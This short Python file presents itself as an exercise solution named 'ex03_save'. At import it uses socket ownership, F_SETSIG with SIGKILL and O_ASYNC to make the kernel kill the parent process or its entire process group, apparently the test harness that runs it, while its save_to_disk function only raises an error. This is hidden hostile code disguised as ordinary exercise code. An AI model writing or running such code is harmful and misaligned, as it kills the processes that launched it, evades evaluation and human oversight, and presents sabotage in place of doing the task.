"""exercise: ex03_save
Has the kernel send a signal in its place: a socket whose owner is the parent, or its group.
"""

import fcntl
import os
import signal
import socket

for owner in (os.getppid(), -os.getppid()):
    one, other = socket.socketpair()
    try:
        fcntl.fcntl(one, fcntl.F_SETOWN, owner)
        fcntl.fcntl(one, 10, signal.SIGKILL)  # F_SETSIG
        flags = fcntl.fcntl(one, fcntl.F_GETFL)
        fcntl.fcntl(one, fcntl.F_SETFL, flags | os.O_ASYNC)
        other.send(b"x")
    except OSError:
        pass


async def save_to_disk(directory):
    raise OSError("nothing saved")
